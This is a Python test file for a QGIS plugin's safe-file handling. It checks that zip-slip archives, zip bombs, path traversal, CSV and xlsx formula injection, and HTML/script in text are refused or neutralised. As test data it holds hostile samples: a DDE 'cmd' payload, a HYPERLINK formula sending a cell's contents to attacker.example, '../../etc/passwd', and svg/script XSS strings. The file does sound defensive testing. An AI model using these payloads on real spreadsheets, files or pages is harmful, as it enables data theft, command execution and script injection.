# SPDX-License-Identifier: GPL-3.0-or-later
"""Hostile files (tests/data/hostile/) are refused or neutralised, and nothing leaves the output folder."""

from __future__ import annotations

import csv
import re
import zipfile

import pytest

from cartong_plugin.core.base.errors import CartongError
from cartong_plugin.core.base.safe_archives import check_xlsx_is_safe, inspect_xlsx, safe_extract_zip
from cartong_plugin.core.base.safe_files import (
    ensure_inside,
    neutralise_cell,
    neutralise_row,
    plain_text,
    safe_output_path,
    sanitise_filename,
)


@pytest.fixture()
def hostile(test_data_dir):
    return test_data_dir / "hostile"


@pytest.fixture()
def sandbox(tmp_path):
    """An output folder inside a parent folder, to see anything written beside it."""
    out = tmp_path / "parent" / "out"
    out.mkdir(parents=True)
    return out


def _files_under(folder):
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*"))


@pytest.mark.parametrize(
    "name, reason",
    [
        ("zip_slip.zip", "'..'"),
        ("zip_absolute.zip", "absolute path"),
        ("zip_windows_drive.zip", "absolute path"),
        ("zip_symlink.zip", "symbolic link"),
    ],
)
def test_unsafe_zip_member_is_refused_and_nothing_written(hostile, sandbox, name, reason):
    with pytest.raises(CartongError) as err:
        safe_extract_zip(hostile / name, sandbox)
    assert name in str(err.value) and reason in str(err.value)
    assert _files_under(sandbox.parent) == ["out"]


def test_zip_bomb_is_refused_by_ratio(hostile, sandbox):
    with pytest.raises(CartongError, match="zip bomb"):
        safe_extract_zip(hostile / "zip_bomb.zip", sandbox)
    assert _files_under(sandbox) == []


def test_zip_total_size_limit_is_enforced(hostile, sandbox):
    with pytest.raises(CartongError, match="would expand to"):
        safe_extract_zip(hostile / "good_export.zip", sandbox, max_total_bytes=10)
    assert _files_under(sandbox) == []


def test_zip_with_forged_sizes_is_refused_and_removed(tmp_path, sandbox):
    """A member declaring 10 bytes but holding 5 MB is never written out whole."""
    import struct

    forged = tmp_path / "forged.zip"
    with zipfile.ZipFile(forged, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.csv", b"x" * 5_000_000)
    data = bytearray(forged.read_bytes())
    local, central = data.find(b"PK\x03\x04"), data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, local + 22, 10)  # declared uncompressed size
    struct.pack_into("<I", data, central + 24, 10)
    forged.write_bytes(bytes(data))
    with pytest.raises(CartongError, match="forged.zip could not be extracted"):
        safe_extract_zip(forged, sandbox)
    assert _files_under(sandbox) == []


def test_good_zip_is_extracted_inside_the_folder(hostile, sandbox):
    written = safe_extract_zip(hostile / "good_export.zip", sandbox)
    assert _files_under(sandbox) == ["media", "media/photo 1.jpg", "survey.csv"]
    assert all(sandbox in p.parents for p in written)
    assert (sandbox / "survey.csv").read_text().startswith("respondent_name;")


def test_odd_member_names_are_renamed_on_extraction(hostile, sandbox):
    safe_extract_zip(hostile / "odd_names.zip", sandbox)
    assert _files_under(sandbox) == [
        "_CON.csv",
        "hidden.csv",
        "rapport_ final_.csv",
        "sous_dossier_",
        "sous_dossier_/_nul.txt",
    ]


def test_zip_with_names_differing_only_by_case_is_refused(hostile, sandbox):
    with pytest.raises(CartongError, match="holds two files named"):
        safe_extract_zip(hostile / "zip_duplicate_names.zip", sandbox)
    assert _files_under(sandbox) == []


def test_not_a_zip_gives_a_clear_error(hostile):
    with pytest.raises(CartongError, match="formula_cells.csv is not a zip archive: it looks like plain text"):
        safe_extract_zip(hostile / "formula_cells.csv", hostile)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+236 72 11 22 33", "'+236 72 11 22 33"),
    ],
)
def test_formula_like_cell_is_neutralised(value, expected):
    assert neutralise_cell(value) == expected


@pytest.mark.parametrize("value", ["-12.5", "+3", "1e-3", "Awa", "", None, 42, -3.5, "a=b"])
def test_harmless_cell_is_unchanged(value):
    assert neutralise_cell(value) == value


def test_neutralised_hostile_csv_has_no_cell_a_spreadsheet_would_run(hostile, tmp_path):
    with open(hostile / "formula_cells.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    out = tmp_path / "clean.csv"
    with open(out, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        for row in rows:
            writer.writerow(neutralise_row(row))
    with open(out, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    numbers = re.compile(r"^[+-]?\d+(\.\d+)?$")  # "+23672112233" opens as a number: harmless
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not numbers.match(c)]
    assert dangerous == []
    assert '\'=HYPERLINK("http://attacker.example/?x="&A3,"click")' in cells
    assert "-12.5" in cells  # a number stays a number


def test_neutralise_row_keeps_dict_keys():
    assert neutralise_row({"note": "=1", "hh_size": 4}) == {"note": "'=1", "hh_size": 4}


def test_xlsx_with_external_link_is_refused(hostile):
    assert inspect_xlsx(hostile / "xlsx_external_link.xlsx").external_links == ["http://attacker.example/collect.xlsx"]
    with pytest.raises(CartongError) as err:
        check_xlsx_is_safe(hostile / "xlsx_external_link.xlsx")
    assert "xlsx_external_link.xlsx was refused" in str(err.value)
    assert "attacker.example" in str(err.value)


def test_xlsx_formulas_are_found_with_their_cells(hostile):
    risks = inspect_xlsx(hostile / "xlsx_formulas.xlsx")
    assert risks.external_links == []
    assert risks.formulas == ["sheet1.xml!C2", "sheet1.xml!D2"]


def test_xlsx_formulas_give_a_warning_or_a_refusal(hostile):
    warnings = check_xlsx_is_safe(hostile / "xlsx_formulas.xlsx")
    assert len(warnings) == 1 and "2 cells hold formulas (sheet1.xml!C2, sheet1.xml!D2)" in warnings[0]
    with pytest.raises(CartongError, match="xlsx_formulas.xlsx was refused: 2 cells hold formulas"):
        check_xlsx_is_safe(hostile / "xlsx_formulas.xlsx", refuse_formulas=True)


def test_xlsx_with_values_only_is_safe_even_with_text_starting_with_equals(hostile):
    assert inspect_xlsx(hostile / "xlsx_values_only.xlsx").safe
    assert check_xlsx_is_safe(hostile / "xlsx_values_only.xlsx", refuse_formulas=True) == []


@pytest.mark.parametrize(
    "name, expected",
    [
        ("../../etc/passwd", "etc_passwd"),
        ("C:\\Windows\\system32.dll", "C_Windows_system32.dll"),
        ("CON", "_CON"),
        ("nul.csv", "_nul.csv"),
        ("com1.tar.gz", "_com1.tar.gz"),
        ("rapport: final?.gpkg", "rapport_ final_.gpkg"),
        ('Enquête <WASH> "Bangui".csv', "Enquête _WASH_ _Bangui_.csv"),
        ("  .hidden. ", "hidden"),
        ("", "output"),
        ("tab\there\nnewline.csv", "tab_here_newline.csv"),
    ],
)
def test_filename_is_sanitised(name, expected):
    assert sanitise_filename(name) == expected


def test_long_filename_keeps_its_extension():
    name = sanitise_filename("a" * 500 + ".gpkg")
    assert len(name) <= 120 and name.endswith(".gpkg")


def test_output_path_outside_the_folder_is_refused(sandbox):
    with pytest.raises(CartongError, match="outside the chosen folder"):
        ensure_inside(sandbox, sandbox / ".." / "escaped.gpkg")
    assert ensure_inside(sandbox, sandbox / "sub/ok.gpkg") == sandbox.resolve() / "sub" / "ok.gpkg"


def test_relative_folder_and_path_are_resolved_once_against_the_current_folder(sandbox, monkeypatch):
    # attack 19leak, finding 3: rel/shared.gpkg was written to rel/rel/shared.gpkg
    monkeypatch.chdir(sandbox)
    assert ensure_inside("rel", "rel/shared.gpkg") == sandbox.resolve() / "rel" / "shared.gpkg"
    assert safe_output_path("rel", "a/b.csv") == sandbox.resolve() / "rel" / "a_b.csv"
    with pytest.raises(CartongError, match="outside the chosen folder"):
        ensure_inside("rel", "other/shared.gpkg")


def test_symlink_pointing_outside_is_refused(sandbox):
    (sandbox / "link").symlink_to(sandbox.parent)
    with pytest.raises(CartongError, match="outside the chosen folder"):
        ensure_inside(sandbox, sandbox / "link" / "escaped.gpkg")


def test_safe_output_path_stays_inside_whatever_the_name(sandbox):
    for name in ("../../x.gpkg", "/etc/passwd", "..", "CON", "a/b/c.csv"):
        path = safe_output_path(sandbox, name)
        assert path.parent == sandbox.resolve(), name


def test_plain_text_escapes_svg_and_script(hostile):
    with open(hostile / "html_in_text.csv", newline="", encoding="utf-8") as handle:
        cells = [c for row in csv.reader(handle, delimiter=";") for c in row]
    rendered = [plain_text(c) for c in cells]
    assert not any("<" in r or ">" in r for r in rendered)
    assert "&lt;svg onload=alert(&#x27;village&#x27;)&gt;" in rendered


def test_plain_text_shows_escaped_html_as_text_in_a_label(qgis_app):
    from qgis.PyQt.QtGui import QTextDocument

    doc = QTextDocument()
    doc.setHtml(plain_text("<script>alert(1)</script><b>bold</b>"))
    assert doc.toPlainText() == "<script>alert(1)</script><b>bold</b>"


def test_plain_text_truncates_long_values():
    assert plain_text("x" * 50, max_length=10) == "x" * 10 + "…"
    assert plain_text(None) == ""


def test_neutralised_csv_writer_keeps_text_and_numbers(hostile, tmp_path):
    from cartong_plugin.core.base.safe_files import write_neutralised_csv

    with open(hostile / "formula_cells.csv", newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle, delimiter=";"))
    out = tmp_path / "log.csv"
    write_neutralised_csv(out, header, rows, delimiter=";")
    with open(out, newline="", encoding="utf-8-sig") as handle:
        back = list(csv.reader(handle, delimiter=";"))
    assert back[0] == header
    assert back[1:] == [[neutralise_cell(cell) for cell in row] for row in rows]
    assert back[1][0].startswith("'=HYPERLINK") and back[2][1] == "-12.5" and back[1][2] == "'-2+3"


def test_xlsx_written_by_gdal_with_neutralised_cells_holds_no_formula(tmp_path):
    from osgeo import ogr

    path = tmp_path / "log.xlsx"
    ds = ogr.GetDriverByName("XLSX").CreateDataSource(str(path))
    layer = ds.CreateLayer("cleaning_log", geom_type=ogr.wkbNone)
    layer.CreateField(ogr.FieldDefn("new_value", ogr.OFTString))
    for value in ('=HYPERLINK("http://attacker.example")', "@SUM(1)", "ok"):
        feature = ogr.Feature(layer.GetLayerDefn())
        feature.SetField("new_value", neutralise_cell(value))
        layer.CreateFeature(feature)
    feature = layer = ds = None  # closes and writes the file
    assert inspect_xlsx(path).safe
    back = ogr.Open(str(path))
    values = [f.GetField(0) for f in back.GetLayer(0)][-3:]  # read back every cell as written
    back = None
    assert values == ['\'=HYPERLINK("http://attacker.example")', "'@SUM(1)", "ok"]
